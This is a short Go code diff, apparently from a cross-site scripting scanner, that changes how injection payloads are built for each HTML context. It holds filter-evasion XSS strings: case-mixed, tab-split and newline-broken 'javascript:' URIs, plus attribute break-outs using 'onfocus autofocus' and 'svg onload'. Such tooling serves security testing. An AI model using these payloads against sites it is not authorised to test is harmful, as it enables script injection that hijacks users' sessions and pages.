@@ -314,9 +314,9 @@ func (c context) payloads(word string) []string {
 		case c.element == "script" || c.element == "base":
 			return append([]string{other}, leave...)
 		case foreign[c.element] == c.name:
-			return append([]string{"javascript:" + call, other}, leave...)
+			return append([]string{"javascript:" + call + "//", other}, leave...)
 		}
-		return append([]string{"javascript:" + call, "JaVaScRiPt:" + call, "java\tscript:" + call, "javascript://%0a" + call}, leave...)
+		return append([]string{"javascript:" + call + "//", "JaVaScRiPt:" + call + "//", "java\tscript:" + call + "//", "javascript://%0a" + call + "//"}, leave...)
 	case inAttribute:
 		if q == "" {
 			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">"}
